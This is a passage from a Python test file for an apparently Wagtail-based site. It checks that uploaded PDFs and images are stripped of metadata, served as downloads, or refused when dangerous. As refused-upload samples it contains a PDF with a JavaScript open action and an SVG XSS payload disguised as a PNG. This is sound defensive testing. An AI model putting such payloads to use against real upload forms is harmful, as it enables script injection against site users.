    assert several.json() == {"success": False, "error_message": lies("docx")[0]}
    assert not Document.objects.exists()


def test_a_document_is_downloaded_never_opened_on_the_site(admin_client, root):
    response = admin_client.post(
        reverse("wagtaildocs:add"), {"title": "Dossier", "collection": root, "file": sent("dossier.pdf", PDF)}
    )
    assert response.status_code == 302
    served = admin_client.get(Document.objects.get().url)
    assert served.headers["Content-Disposition"] == 'attachment; filename="dossier.pdf"'
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert held(b"".join(served.streaming_content)) == held(PDF)


def stored(name, data):
    return Document.objects.create(title=name, file=ContentFile(data, name=name))


def content_of(document):
    with document.open_file() as file:
        return file.read()


@pytest.mark.django_db
def test_documents_stored_before_are_cleaned_once_under_their_name_and_those_refused_are_named(capsys):
    telling, dangerous = (
        stored("ancien.pdf", telling_pdf()),
        stored("piege.pdf", pdf(Names=dictionary(EmbeddedFiles=dictionary()))),
    )
    address = telling.url
    call_command("nettoyer_documents")
    said = capsys.readouterr().out.splitlines()
    assert said[0] == "Documents nettoyés\u00a0: 1."
    assert (
        said[1].startswith(f"Document non modifié\u00a0: piege.pdf (document {dangerous.pk}).")
        and "d’autres fichiers" in said[1]
    )
    telling = Document.objects.get(pk=telling.pk)
    clean = content_of(telling)
    assert AUTHOR not in clean and pictures.SECRET not in clean
    assert (telling.url, telling.file_size) == (address, len(clean))
    assert telling.file_hash == hashlib.sha1(clean, usedforsecurity=False).hexdigest()
    call_command("nettoyer_documents")
    assert capsys.readouterr().out.splitlines()[0] == "Documents nettoyés\u00a0: 0."
    assert content_of(Document.objects.get(pk=telling.pk)) == clean


@pytest.mark.django_db
def test_what_the_api_v3_is_sent_is_cleaned_or_refused_as_in_the_admin(client):
    bearer = f"Bearer {APIToken.create_token(user=UserFactory(role='admin'), name='essai')[1]}"

    def send(kind, name, data):
        collection = Collection.get_first_root_node().pk
        body = {"title": "Envoyé", "collection_id": collection, "file": SimpleUploadedFile(name, data)}
        return client.post(f"/api/v3/{kind}/", body, headers={"Authorization": bearer})

    answer = send("documents", "dossier.pdf", telling_pdf())
    assert answer.status_code == 201, answer.content
    data = content_of(Document.objects.get(pk=answer.json()["id"]))
    assert AUTHOR not in data and pictures.SECRET not in data
    answer = send("images", "photo.jpg", pictures.telling_jpeg())
    assert answer.status_code == 201, answer.content
    with get_image_model().objects.get(pk=answer.json()["id"]).open_file() as file:
        assert pictures.SECRET not in file.read()
    for kind, name, sent_data in (
        ("documents", "piege.pdf", pdf(OpenAction=action("/JavaScript"))),
        ("images", "piege.png", b"<svg onload=alert(1)></svg>"),
    ):
        answer = send(kind, name, sent_data)
        assert 400 <= answer.status_code < 500, answer.content
        assert "file" in answer.content.decode()
    assert (Document.objects.count(), get_image_model().objects.count()) == (1, 1)
